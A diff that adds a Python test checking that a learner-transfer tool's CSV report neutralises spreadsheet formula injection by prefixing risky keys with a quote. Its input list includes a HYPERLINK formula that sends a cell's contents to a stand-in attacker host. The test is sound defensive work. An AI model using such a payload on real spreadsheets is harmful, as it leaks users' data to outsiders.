@@ -107,6 +107,32 @@ def test_learners_file_transfers_each_learner_and_reports_it(catalog, learners, 
     assert "nothing was written" not in stdout
 
 
+FORMULA_KEYS = ['=HYPERLINK("https://attacker.example/?"&A1,"Open")', "+1+1", "-2+3", "@SUM(A1:A2)"]
+
+
+def test_report_cells_that_would_run_as_formulas_start_with_a_quote(catalog, tmp_path):
+    """Partner-supplied keys are written so that a spreadsheet shows them as text (OWASP CSV injection)."""
+    enroll(catalog.CYBERSECURITY, FORMULA_KEYS)
+    enroll_course(catalog.CYBERSECURITY, catalog.SHARED_COURSE, FORMULA_KEYS)
+    report = str(tmp_path / "report.csv")
+    run(
+        catalog,
+        "--learners",
+        write_csv(
+            tmp_path, "student_key\n" + "".join(f'"{key.replace(chr(34), chr(34) * 2)}"\n' for key in FORMULA_KEYS)
+        ),
+        "--report",
+        report,
+    )
+    rows = read_report(report)
+    assert [row[:2] for row in rows[1:]] == [["'" + key, "transferred"] for key in FORMULA_KEYS]
+    assert moved_keys(catalog) == set(FORMULA_KEYS)
+
+
+def moved_keys(catalog):
+    return {key for (key, _), program in active_programs(catalog).items() if program == "other"}
+
+
 def test_all_transfers_every_learner_of_the_source_program(catalog, learners, tmp_path):
     report = str(tmp_path / "report.csv")
     stdout, _ = run(catalog, "--all", "--batch-size", "2", "--report", report)
